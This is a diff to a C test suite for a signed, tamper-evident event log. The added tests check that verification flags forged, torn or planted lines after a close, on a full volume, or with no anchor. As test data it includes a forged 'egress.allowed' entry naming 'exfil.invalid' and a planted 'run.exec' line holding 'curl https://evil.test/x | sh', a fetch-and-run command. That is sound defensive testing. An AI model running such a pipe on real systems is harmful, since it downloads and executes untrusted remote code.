@@ -66,6 +66,7 @@ static struct eventlog *open_signed(struct tmp *, unsigned long long,
 static EVP_PKEY	*signed_log(struct tmp *, unsigned long long, int,
 		    const char *);
 static void	lines_read(struct lines *, const char *);
+static void	append_raw(const char *, const char *);
 static void	lines_write(struct lines *, const char *, size_t, size_t);
 static void	lines_free(struct lines *);
 static int	is_checkpoint(const char *);
@@ -1440,6 +1441,34 @@ test_keys_and_empty(void **state)
 }
 
 /*
+ * Line idx (from 0) of the log is the writer's log.resume naming
+ * anchor_seq: verify with its key fails, saying what, from seq from on.
+ */
+static void
+resumed_untrusted(struct tmp *t, size_t idx, long long anchor_seq,
+    const char *what, long long from)
+{
+	struct ckverify	 v;
+	struct lines	 l;
+	char		 pub[160], mark[80];
+	EVP_PKEY	*k;
+
+	snprintf(mark, sizeof(mark), "\"event\":\"log.resume\","
+	    "\"anchor_seq\":%lld,", anchor_seq);
+	lines_read(&l, t->path);
+	assert_true(idx < l.n);
+	assert_non_null(strstr(l.v[idx], mark));
+	lines_free(&l);
+	snprintf(pub, sizeof(pub), "%s.pub", t->key);
+	k = pubkey(pub);
+	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
+	    CKVERIFY_UNTRUSTED);
+	assert_non_null(strstr(v.what, what));
+	assert_int_equal(v.untrusted.seq, from);
+	EVP_PKEY_free(k);
+}
+
+/*
  * A close after the checkpoint the anchor names (the anchor could not be
  * rewritten: a full volume) and lines planted after that close: the
  * writer that opens the log records them against its stale anchor, and
@@ -1451,10 +1480,8 @@ test_resume_stale_anchor(void **state)
 	struct tmp		*t = *state;
 	struct checkpoint	*ck;
 	struct eventlog		*log;
-	struct ckverify		 v;
 	struct lines		 l, a;
-	char			 anchor[160], pub[160];
-	EVP_PKEY		*k;
+	char			 anchor[160];
 
 	log = open_signed(t, 100, 60, &ck);
 	assert_int_equal(checkpoint_write(ck, "open"), 0);	/* seq 1 */
@@ -1476,16 +1503,22 @@ test_resume_stale_anchor(void **state)
 	eventlog_close(log);
 	lines_read(&l, t->path);
 	assert_int_equal(l.n, 12);
-	assert_non_null(strstr(l.v[9], "\"event\":\"log.resume\","
-	    "\"anchor_seq\":1,"));
 	lines_free(&l);
-	snprintf(pub, sizeof(pub), "%s.pub", t->key);
-	k = pubkey(pub);
-	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
-	    CKVERIFY_UNTRUSTED);
-	assert_non_null(strstr(v.what, "closed the log at seq 7"));
-	assert_int_equal(v.untrusted.seq, 8);
-	EVP_PKEY_free(k);
+	resumed_untrusted(t, 9, 1, "closed the log at seq 7", 8);
+}
+
+/*
+ * No new file can be made beside the anchor (as on a full volume): a
+ * folder at the name of this process's reservation, tmp[192], with
+ * inner[224] in it, so that nothing removes it.
+ */
+static void
+room_blocked(struct tmp *t, char *tmp, char *inner)
+{
+	snprintf(tmp, 192, "%s.anchor.%ld.tmp", t->key, (long)getpid());
+	snprintf(inner, 224, "%s/x", tmp);
+	assert_int_equal(mkdir(tmp, 0700), 0);
+	assert_int_equal(mkdir(inner, 0700), 0);
 }
 
 /*
@@ -1504,11 +1537,7 @@ test_anchor_room(void **state)
 	char			 tmp[192], inner[224];
 	size_t			 i;
 
-	snprintf(tmp, sizeof(tmp), "%s.anchor.%ld.tmp", t->key,
-	    (long)getpid());
-	snprintf(inner, sizeof(inner), "%s/x", tmp);
-	assert_int_equal(mkdir(tmp, 0700), 0);
-	assert_int_equal(mkdir(inner, 0700), 0);	/* nothing removes it */
+	room_blocked(t, tmp, inner);	/* nothing removes it */
 	log = open_signed(t, 100, 60, &ck);
 	assert_int_equal(checkpoint_write(ck, "open"), -1);
 	appends_refused(log, 3);	/* no event before the open */
@@ -3321,11 +3350,7 @@ test_event_refused_while_open_due(void **state)
 	assert_true(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
 	    &cause) >= 0);
 	/* The anchor's next version cannot be made: no checkpoint either. */
-	snprintf(tmp, sizeof(tmp), "%s.anchor.%ld.tmp", t->key,
-	    (long)getpid());
-	snprintf(inner, sizeof(inner), "%s/x", tmp);
-	assert_int_equal(mkdir(tmp, 0700), 0);
-	assert_int_equal(mkdir(inner, 0700), 0);
+	room_blocked(t, tmp, inner);
 	log = eventlog_open(t->dir, NAME, &lo, &cause);
 	assert_non_null(log);
 	ck = checkpoint_new(log, &o, &cause);
@@ -3795,27 +3820,46 @@ test_burst_anchored(void **state)
 /*
  * A torn line planted after a clean close: a writer reopens its close
  * before any line after it, so the next one records it (log.resume) and
- * verify fails it instead of skipping it as an interrupted write.
+ * verify fails it instead of skipping it as an interrupted write. The
+ * same with its newline (atk20r17 F6: the writer looked only at whether
+ * the file ended without one), and verify with the anchor fails it before
+ * any writer starts again.
  */
 static void
 test_torn_after_close(void **state)
 {
+	static const char *const tails[] = { "", "\n" };
 	struct tmp		*t = *state;
+	struct checkpoint_anchor a;
 	struct ckverify		 v;
-	FILE			*f;
+	struct lines		 l;
 	EVP_PKEY		*k;
+	size_t			 i;
 
-	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
-	f = fopen(t->path, "ab");
-	assert_non_null(f);
-	fputs("{\"ts\":\"x\",\"seq\":8,\"event\":\"egress.allowed\","
-	    "\"host\":\"exfil.invalid\",\"note\":\"FORGED", f);
-	fclose(f);
-	reopen_and_close(t);
-	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
-	    CKVERIFY_UNTRUSTED);
-	assert_non_null(strstr(v.what, "after its close at seq 7"));
-	EVP_PKEY_free(k);
+	for (i = 0; i < sizeof(tails) / sizeof(tails[0]); i++) {
+		start_afresh(t);
+		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
+		append_raw(t->path, "{\"ts\":\"x\",\"seq\":8,\"event\":"
+		    "\"egress.allowed\",\"host\":\"exfil.invalid\",\"note\":"
+		    "\"FORGED");
+		append_raw(t->path, tails[i]);
+		anchor_of(t, &a);
+		if (*tails[i] != '\0') {	/* lines_read() wants whole lines */
+			assert_int_equal(verify_with((const char *const []){
+			    t->path }, 1, k, &a, &v), CKVERIFY_UNTRUSTED);
+			assert_non_null(strstr(v.what, "a torn line, follows "
+			    "the close"));
+		}
+		reopen_and_close(t);
+		lines_read(&l, t->path);
+		assert_non_null(strstr(l.v[8], "\"event\":\"log.resume\","
+		    "\"anchor_seq\":7,"));
+		lines_free(&l);
+		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
+		    CKVERIFY_UNTRUSTED);
+		assert_non_null(strstr(v.what, "after its close at seq 7"));
+		EVP_PKEY_free(k);
+	}
 }
 
 /* Killed after its close line, before the anchor names it. */
@@ -3911,11 +3955,7 @@ test_reopen_refused(void **state)
 	EVP_PKEY		*k;
 
 	k = signed_log(t, 100, 2, "close");		/* 1 to 4 */
-	snprintf(tmp, sizeof(tmp), "%s.anchor.%ld.tmp", t->key,
-	    (long)getpid());
-	snprintf(inner, sizeof(inner), "%s/x", tmp);
-	assert_int_equal(mkdir(tmp, 0700), 0);
-	assert_int_equal(mkdir(inner, 0700), 0);
+	room_blocked(t, tmp, inner);
 	log = open_signed(t, 100, 60, &ck);
 	appends_refused(log, 1);
 	assert_int_equal(eventlog_seq(log), 4);
@@ -3976,6 +4016,125 @@ test_sole_signer(void **state)
 	assert_int_equal(checkpoint_anchor_read(anchor, &an, &cause), 1);
 	assert_string_equal(an.reason, "close");
 	assert_int_equal(an.seq, 6);
+}
+
+/*
+ * atk20r17 F2: no room for a new file beside the anchor (a full volume,
+ * or no inode left: here a folder at the reservation's name). The record
+ * refused after the close is counted lost in the anchor itself, which is
+ * rewritten in place; the next writer's log.outage line says so, and
+ * verify counts it.
+ */
+static void
+test_no_room_lost_in_place(void **state)
+{
+	struct tmp		*t = *state;
+	struct checkpoint	*ck;
+	struct checkpoint_anchor a;
+	struct eventlog		*log;
+	struct ckverify		 v;
+	char			 tmp[192], inner[224];
+	EVP_PKEY		*k;
+
+	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
+	room_blocked(t, tmp, inner);
+	log = open_signed(t, 100, 60, &ck);
+	appends_refused(log, 1);
+	assert_int_equal(checkpoint_write(ck, "close"), -1);
+	checkpoint_free(ck);
+	eventlog_close(log);
+	assert_int_equal(rmdir(inner), 0);
+	assert_int_equal(rmdir(tmp), 0);
+	anchor_of(t, &a);
+	assert_int_equal(a.seq, 7);
+	assert_int_equal(a.lost, 1);
+	assert_false(a.reopened);
+	reopen_and_close(t);
+	anchor_of(t, &a);
+	assert_int_equal(a.lost, 0);
+	assert_int_equal(verify_with((const char *const []){ t->path }, 1, k,
+	    &a, &v), CKVERIFY_OK);
+	assert_int_equal(v.outages, 1);
+	assert_int_equal(v.lost, 1);
+	EVP_PKEY_free(k);
+}
+
+/*
+ * atk20r17 F3: a writer with no anchor yet finds lines in the log (its
+ * first start, or the anchor moved away): it records them (log.resume,
+ * anchor_seq 0) before it signs, and verify fails them as lines its key
+ * never saw.
+ */
+static void
+test_unanchored_lines_resumed(void **state)
+{
+	struct tmp		*t = *state;
+	struct eventlog		*log;
+	struct lines		 l;
+
+	log = eventlog_open(t->dir, NAME, NULL, NULL);
+	assert_non_null(log);
+	append_n(log, 0, 3);			/* planted: seq 1 to 3 */
+	eventlog_close(log);
+	reopen_and_close(t);
+	lines_read(&l, t->path);
+	assert_non_null(strstr(l.v[3], "\"found_seq\":3,"));
+	assert_non_null(strstr(l.v[4], "\"reason\":\"open\""));
+	lines_free(&l);
+	resumed_untrusted(t, 3, 0, "had no anchor yet", 1);
+}
+
+/* Append s (a line, its newline in s or not) to the log at path. */
+static void
+append_raw(const char *path, const char *s)
+{
+	FILE	*f;
+
+	assert_non_null(f = fopen(path, "ab"));
+	assert_true(fputs(s, f) >= 0);
+	assert_int_equal(fclose(f), 0);
+}
+
+/*
+ * atk20r17 F5: a torn-looking event line put into the signed part fails
+ * verify: a writer whose event is cut writes a log.outage line next. A
+ * torn line that names no event, or the writer's own checkpoint, is
+ * still an interrupted write.
+ */
+static void
+test_torn_inserted(void **state)
+{
+	static const char *const torn[] = {
+		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"event\":"
+		    "\"run.exec\",\"command\":\"curl https://evil.test/x | sh",
+		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"ev",
+		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"event\":"
+		    "\"log.checkpoint\",\"reason\":\"co",
+	};
+	struct tmp		*t = *state;
+	struct ckverify		 v;
+	struct lines		 l;
+	EVP_PKEY		*k;
+	size_t			 i, j;
+
+	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
+	reopen_and_close(t);
+	lines_read(&l, t->path);
+	for (i = 0; i < sizeof(torn) / sizeof(torn[0]); i++) {
+		lines_write(&l, t->path, 0, 7);
+		append_raw(t->path, torn[i]);
+		append_raw(t->path, "\n");
+		for (j = 7; j < l.n; j++) {
+			append_raw(t->path, l.v[j]);
+			append_raw(t->path, "\n");
+		}
+		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
+		    i == 0 ? CKVERIFY_UNTRUSTED : CKVERIFY_OK);
+		if (i == 0)
+			assert_non_null(strstr(v.what, "looks like a torn line"));
+	}
+	lines_free(&l);
+	EVP_PKEY_free(k);
 }
 
 int
@@ -4047,6 +4206,9 @@ main(void)
 		T(test_planted_resume_reopened),
 		T(test_untrusted_after_anchored_close),
 		T(test_reopen_refused),
+		T(test_no_room_lost_in_place),
+		T(test_unanchored_lines_resumed),
+		T(test_torn_inserted),
 	};
 #undef T
 
